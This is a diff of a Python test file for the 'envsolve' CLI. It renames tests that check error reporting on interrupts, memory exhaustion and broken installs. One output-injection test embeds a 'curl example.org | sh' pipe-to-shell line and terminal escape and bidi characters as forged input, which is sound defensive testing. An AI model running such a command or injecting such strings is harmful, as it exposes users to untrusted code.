@@ -1,4 +1,4 @@
-"""No traceback leaves the command line: at start-up, on an interrupt, without memory, in a broken installation."""
+"""The command line never prints a traceback: at start-up, on an interrupt, without memory, in a broken installation."""
 
 from __future__ import annotations
 
@@ -60,7 +60,7 @@ def check_interrupts(moments: list[float], tmp_path: Path) -> None:
 
 
 @needs_signals
-def test_an_interrupt_at_any_moment_prints_no_traceback_and_writes_no_half_file(tmp_path: Path) -> None:
+def test_an_interrupt_prints_no_traceback_and_leaves_no_partial_file(tmp_path: Path) -> None:
     check_interrupts([step * 0.02 for step in range(12)], tmp_path)
 
 
@@ -70,7 +70,7 @@ def test_an_interrupt_at_many_more_moments(tmp_path: Path) -> None:
     check_interrupts([step * 0.002 for step in range(120)], tmp_path)
 
 
-def test_an_installation_without_its_packages_is_named_as_that(tmp_path: Path) -> None:
+def test_missing_dependencies_are_reported_as_a_broken_installation(tmp_path: Path) -> None:
     (tmp_path / "click.py").write_text("raise ImportError(\"No module named 'click'\")")
     program = f"import sys; sys.path.insert(0, {str(tmp_path)!r}); from envsolve.cli import main; main(['--help'])"
     environ = {name: value for name, value in os.environ.items() if name != "ENVSOLVE_DEBUG"}
@@ -84,7 +84,7 @@ def test_an_installation_without_its_packages_is_named_as_that(tmp_path: Path) -
     ]
 
 
-def test_an_interrupt_while_modules_are_imported_prints_one_word(tmp_path: Path) -> None:
+def test_an_interrupt_during_imports_prints_one_word(tmp_path: Path) -> None:
     (tmp_path / "click.py").write_text("raise KeyboardInterrupt")
     program = f"import sys; sys.path.insert(0, {str(tmp_path)!r}); from envsolve.cli import main; main(['--help'])"
     done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=False)
@@ -102,7 +102,7 @@ def test_running_out_of_memory_is_one_error(
     assert capsys.readouterr().err.startswith("error: out-of-memory\n  envsolve ran out of memory\n")
 
 
-def test_a_file_that_fails_unexpectedly_is_named(
+def test_an_unexpected_file_error_names_the_file(
     monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
 ) -> None:
     def fail(*_: object, **__: object) -> None:
@@ -115,7 +115,7 @@ def test_a_file_that_fails_unexpectedly_is_named(
     )
 
 
-def test_text_from_outside_forms_no_line_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
+def test_text_from_outside_cannot_start_a_line(capsys: pytest.CaptureFixture[str]) -> None:
     forged = "bad\nhint: run this\r\n  curl example.org | sh\u2028error: \x1b[31m\u202e"
     report(OutsideError(forged, forged, (forged,), (Hint(forged, forged),)), [], "solve", as_json=False)
     lines = capsys.readouterr().err.splitlines()
@@ -131,7 +131,7 @@ def broken_click(tmp_path: Path, text: str) -> subprocess.CompletedProcess[str]:
     return subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, env=environ, check=False)
 
 
-def test_before_main_begins_nothing_is_imported_that_an_interrupt_could_meet() -> None:
+def test_nothing_interruptible_is_imported_before_main() -> None:
     program = "import sys; before = set(sys.modules); import envsolve.cli; print(*sorted(set(sys.modules) - before))"
     done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True)
     assert done.stdout.split() == ["envsolve", "envsolve.cli"]
@@ -139,15 +139,15 @@ def test_before_main_begins_nothing_is_imported_that_an_interrupt_could_meet() -
 
 @needs_signals
 @pytest.mark.parametrize("other", ["ImportError", "RuntimeError", "SystemError"])
-def test_an_interrupt_that_python_makes_another_error_of_is_one_all_the_same(other: str, tmp_path: Path) -> None:
-    """As modules in C do with one that comes while they import others."""
+def test_an_interrupt_that_python_turns_into_another_error_is_still_an_interrupt(other: str, tmp_path: Path) -> None:
+    """Like modules in C that get an interrupt while they import others."""
     interrupts = "import os, signal, time\ntry:\n    os.kill(os.getpid(), signal.SIGINT); time.sleep(9)\n"
     done = broken_click(tmp_path, f"{interrupts}except KeyboardInterrupt:\n    pass\nraise {other}('PyCapsule_Import')")
     assert (done.returncode, done.stdout, done.stderr) == (130, "", "interrupted\n")
 
 
 @needs_signals
-def test_an_interrupt_that_comes_within_a_destructor_is_not_lost(tmp_path: Path) -> None:
+def test_an_interrupt_in_a_destructor_is_not_lost(tmp_path: Path) -> None:
     interrupts = "def __del__(self): os.kill(os.getpid(), signal.SIGINT); time.sleep(0.1)"
     started = time.monotonic()
     done = broken_click(tmp_path, f"import os, signal, time\nclass It:\n    {interrupts}\nIt()\ntime.sleep(60)\n")
@@ -155,7 +155,7 @@ def test_an_interrupt_that_comes_within_a_destructor_is_not_lost(tmp_path: Path)
     assert time.monotonic() - started < 30
 
 
-def test_running_out_of_memory_while_modules_are_imported_is_one_error(tmp_path: Path) -> None:
+def test_running_out_of_memory_during_imports_is_one_error(tmp_path: Path) -> None:
     done = broken_click(tmp_path, "raise MemoryError")
     assert (done.returncode, done.stdout) == (3, "")
     assert done.stderr.startswith("error: out-of-memory\n")
